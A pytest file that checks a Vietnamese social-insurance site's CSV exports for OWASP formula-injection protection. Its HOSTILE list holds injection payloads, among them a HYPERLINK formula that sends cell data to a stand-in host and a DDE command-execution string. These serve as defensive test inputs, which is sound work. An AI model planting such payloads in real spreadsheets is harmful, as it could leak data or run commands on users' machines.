"""Every CSV the site offers is safe to open in a spreadsheet (OWASP CSV injection) and still reads naturally."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

from bhxhpub.channels.short_texts.pages import COLUMNS, csv_bytes
from bhxhpub.render.spreadsheet import spreadsheet_cell

PACKAGE = Path(__file__).resolve().parents[2] / "bhxhpub"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+84 912 345 678",
    "- 22% mức đóng",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width =
]


def _read(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _sms(text: str, **kw) -> SimpleNamespace:
    return SimpleNamespace(kind="message", id="ty-le", channel="sms", text=text, characters=len(text),
                           encoding="UCS-2", segments=1, status="approved", **kw)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_short_text_a_spreadsheet_would_run_is_quoted_and_reads_back_whole(text):
    rows = _read(csv_bytes([_sms(text)], "vi", more=(("hmong", [_sms(text)]),)))
    assert [r["text"] for r in rows] == ["'" + text] * 2  # OWASP: a single quote in front, the text whole after it
    for row in rows:
        for value in row.values():
            assert value[:1] not in "=+-@\t\r\uff1d", row


def test_ordinary_texts_and_numbers_are_left_as_they_are():
    rows = _read(csv_bytes([_sms("Đóng BHXH tự nguyện: gọi 1900 9068, mức 22%.")], "vi"))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0]["text"] == "Đóng BHXH tự nguyện: gọi 1900 9068, mức 22%."
    assert (rows[0]["characters"], rows[0]["segments"]) == ("44", "1")
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell("a=b") == "a=b" and spreadsheet_cell("") == ""


def test_every_csv_the_package_writes_goes_through_the_safe_writer():
    """A new CSV somewhere in the package must use render/spreadsheet.py, not csv.writer directly."""
    writers = [p.relative_to(PACKAGE).as_posix() for p in PACKAGE.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert writers == ["render/spreadsheet.py"]
